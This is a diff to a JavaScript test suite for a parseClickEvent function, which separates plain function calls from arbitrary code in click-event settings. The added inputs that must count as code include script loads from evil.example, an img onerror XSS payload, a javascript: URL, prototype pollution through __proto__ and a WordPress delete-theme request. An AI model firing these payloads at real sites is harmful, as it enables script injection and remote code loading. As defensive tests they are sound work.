@@ -10,7 +10,12 @@ describe('what is a plain call', () => {
     ["javascript:window.openShopTour('contact');", ['openShopTour'], ['contact']],
     ['Tidio.open(true, null, -1.5, false)', ['Tidio', 'open'], [true, null, -1.5, false]],
     ["a.b('it is, fine')", ['a', 'b'], ['it is, fine']],
-    ['jQuery.fancybox.open("#tour")', ['jQuery', 'fancybox', 'open'], ['#tour']],
+    [
+      "gtag('event', 'chat', { event_label: 'a: b', value: 1, tags: [\"x\"] })",
+      ['gtag'],
+      ['event', 'chat', { event_label: 'a: b', value: 1, tags: ['x'] }],
+    ],
+    ["dataLayer.push({'event': 'chat'})", ['dataLayer', 'push'], [{ event: 'chat' }]],
   ])('%s', (setting, path, args) => expect(parseClickEvent(setting)).toEqual({ kind: 'call', path, args }));
 
   test.each([
@@ -46,6 +51,15 @@ describe('what is a plain call', () => {
     "jQuery.globalEval('window.__pwn=1')",
     "$.getScript('https://evil.example/x.js')",
     "Reflect.apply('x')",
+    "jQuery.get('https://evil.example/x.js', null, null, 'script')",
+    "jQuery.getJSON('https://evil.example/?callback=?')",
+    "jQuery.fn.init('<img src=x onerror=window.__pwn=1>')",
+    'jQuery.fancybox.open("#tour")',
+    "shop.say('<img src=x onerror=window.__pwn=1>')",
+    "shop.go('javascript:window.__pwn=1')",
+    "wp.ajax.post('delete-theme', {})",
+    "shop.set({ '__proto__': { x: 1 } })",
+    'shop.set({ x: y })',
     "a.call('x')",
   ])('%.40s is code', (setting) => expect(parseClickEvent(setting).kind).toBe('code'));
 });
